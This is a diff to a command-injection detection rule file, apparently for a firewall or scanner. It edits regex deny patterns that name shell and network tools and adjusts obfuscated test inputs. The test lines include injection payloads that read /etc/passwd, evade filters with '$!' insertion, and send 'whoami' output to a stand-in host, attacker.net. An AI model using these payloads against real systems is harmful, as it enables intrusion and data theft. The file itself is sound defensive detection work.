@@ -18,7 +18,7 @@ literal: `
 literal: $(
 literal: &&
 literal: \n
-regex: (?:[;|`\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+|busybox|command|exec|builtin)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:whoami|uname|ifconfig|netstat|nslookup|traceroute|chmod|chown|mkfifo|mknod|sysctl|lsof|getent|printenv|strace|ltrace|visudo|cscli|lastlog|lastlogin|lastb|ssh-copy-id|ssh-keygen|rmt|rmt-tar|rmt-dump|uconv|dmesg|journalctl|iptables|setenforce|aa-disable|aa-enforce|useradd|usermod|userdel|passwd|crontab|killall|pkill|xxd|hexdump|base32|base64|ncat|netcat|socat|telnet|tftp|busybox|wget|curl|ifup|ifdown|hostnamectl|systemctl|chattr|setfacl|getfacl|gdb|lldb|irb|jshell|tclsh|wish|expect|perf|pip[23x]?|ansible(?:-[a-z]+)?|chef-[a-z]+|knife|puppet|kubectl|docker|podman|crictl|nsenter|unshare|capsh|gcc(?:[\d.-]+)?|g\+\+|c89|c99|clang|objdump|readelf|ldd|nohup|sudo|su|bash|zsh|ksh|csh|tcsh|dash|sh|python[\d.]*|perl|ruby|php[\d.]*|lua|nmap|ping|mysql|psql|sqlite3|mongo|redis-cli)['"]?(?:$|[\s;|&<>`)]|\$\{?ifs|\.exe\b)
+regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|strace|ltrace|env|nice|setsid|xargs|timeout\s+\d+|busybox|command|exec|builtin)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:whoami|uname|ifconfig|netstat|nslookup|traceroute|chmod|chown|mkfifo|mknod|sysctl|lsof|getent|printenv|strace|ltrace|visudo|cscli|lastlog|lastlogin|lastb|ssh-copy-id|ssh-keygen|rmt|rmt-tar|rmt-dump|uconv|dmesg|journalctl|iptables|setenforce|aa-disable|aa-enforce|useradd|usermod|userdel|passwd|crontab|killall|pkill|xxd|hexdump|base32|base64|ncat|netcat|socat|telnet|tftp|busybox|wget|curl|ifup|ifdown|hostnamectl|systemctl|chattr|setfacl|getfacl|gdb|lldb|irb|jshell|tclsh|wish|expect|perf|pip[23x]?|ansible(?:-[a-z]+)?|chef-[a-z]+|knife|puppet|kubectl|docker|podman|crictl|nsenter|unshare|capsh|gcc(?:[\d.-]+)?|g\+\+|c89|c99|clang|objdump|readelf|ldd|nohup|sudo|su|bash|zsh|ksh|csh|tcsh|dash|sh|python[\d.]*|perl|ruby|php[\d.]*|lua|nmap|ping|mysql|psql|sqlite3|mongo|redis-cli)['"]?(?:$|[\s;|&<>`)]|\$\{?ifs|\.exe\b)
 test: ;rmt --version
 test: ;'rmt' --version
 test: ;"curl" http://evil.com
@@ -49,7 +49,9 @@ literal: `
 literal: $(
 literal: &&
 literal: \n
-regex: (?:[;|`\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|strace|env|nice|xargs|timeout\s+\d+|busybox)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:cat|tac|nl|od|more|less|head|tail|ls|ll|dir|id|pwd|env|ps|top|echo|printf|sleep|touch|mv|cp|rm|kill|find|sort|tr|cut|split|paste|join|comm|column|fold|fmt|bridge|watch|timeout|time|nice|file|stat|ln|which|whereis|locate|history|alias|source|eval|exec|export|set|unset|trap|w|who|users|groups|date|cal|df|du|free|mount|umount|dd|tar|zip|unzip|gzip|grep|egrep|awk|sed|tee|strings|vi|vim|ex|view|nano|emacs|make|install|rsync|scp|ssh|sftp|ftp|git|svn|npm|npx|yarn|gem|cargo|go|apt|apt-get|yum|dnf|rpm|dpkg|apk|snap|brew|service|reboot|shutdown|halt|poweroff|init|chroot|batch|rc|uptime|hostname|host|dig|whois|route|arp|ip|ss|env|openssl|mail|wall|write|finger|screen|tmux|nc|test)['"]?(?:\s+(?:-{1,2}[\w=.-]*|[/~.$*'"<>{(`\\]|\d|[\w.-]+\s*(?:[;|&`<>\\]|$)|[\w.@:-]+/)|\s*$|\s*[<>|`)]|\$\{?ifs)
+regex: (?:[;|`]|^[^\r\n]{0,100}[\r\n]|&&|\$\()\s*(?:['"\\]?(?:sudo|nohup|time|strace|env|nice|xargs|timeout\s+\d+|busybox)['"]?\s+)*['"\\]?(?:(?:/usr(?:/local)?)?/s?bin/)?(?:cat|tac|nl|od|more|less|head|tail|ls|ll|dir|id|pwd|env|ps|top|echo|printf|sleep|touch|mv|cp|rm|kill|find|sort|tr|cut|split|paste|join|comm|column|fold|fmt|bridge|watch|timeout|time|nice|file|stat|ln|which|whereis|locate|history|alias|source|eval|exec|export|set|unset|trap|w|who|users|groups|date|cal|df|du|free|mount|umount|dd|tar|zip|unzip|gzip|grep|egrep|awk|sed|tee|strings|vi|vim|ex|view|nano|emacs|make|install|rsync|scp|ssh|sftp|ftp|git|svn|npm|npx|yarn|gem|cargo|go|apt|apt-get|yum|dnf|rpm|dpkg|apk|snap|brew|service|reboot|shutdown|halt|poweroff|init|chroot|batch|rc|uptime|hostname|host|dig|whois|route|arp|ip|ss|env|openssl|mail|wall|write|finger|screen|tmux|nc|test)['"]?(?:\s+(?:-{1,2}[\w=.-]*|[/~.$*'"<>{(`\\]|\d|[\w.-]+\s*(?:[;|&`<>\\]|$)|[\w.@:-]+/)|\s*$|\s*[<>|`)]|\$\{?ifs)
+test: ;c$!at /et$!c/pas$!swd
+test: ;c$-at /et$-c/pas$-swd
 test: ;top
 test: code=cd /;cd etc;column passwd
 test: ; cat /etc/passwd
@@ -204,13 +206,10 @@ systems: Unix/Linux
 targets: @values, header, url, param-name
 unless: binary
 literal: $
-regex: (?-i:(?:\$\{?[a-z_][a-z0-9_]{0,7}\}?){3,})(?:[\s;|&/'"<>]|$)|(?:^|[;&|\s])[a-z_]\w*=['"]?(?:/[\w./]+|[a-z][\w.-]*|\\\s|`[^`]+`)['"]?\s*&&\s*[a-z_]\w*=|(?:[;&|`]|&&|\$\()\s*\$\{?[a-z_]\w*\}?\s+[\w./$-]|[a-z]\$(?:[-_$!?*@#]|\{\})[a-z]|\$\(\(\s*[^)]*\)\)|\$\{\w*:?[#%/^,]{1,2}[^}]*\}
+regex: (?-i:(?:\$\{?[a-z_][a-z0-9_]{0,7}\}?){3,})(?:[\s;|&/'"<>]|$)|(?:^|[;&|\s])[a-z_]\w*=['"]?(?:/[\w./]+|[a-z][\w.-]*|\\\s|`[^`]+`)['"]?\s*&&\s*[a-z_]\w*=|(?:[;&|`]|&&|\$\()\s*\$\{?[a-z_]\w*\}?\s+[\w./$-]|\$\(\(\s*[^)]*\)\)|\$\{\w*:?[#%/^,]{1,2}[^}]*\}
 test: c4=\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4
 test: a=curl&&b=`whoami`&&$a attacker.net/$b
 test: a=/etc&&b=/passwd&&c=cat&&$c $a$b
-test: c$!at+/et$!c/pas$!swd
-test: c$-at+/et$-c/pas$-swd
-test: c$_at /etc/passwd
 test: $((7))z -wrapper sh
 test: ;$a cat test.txt
 pass: price=$10.99 each
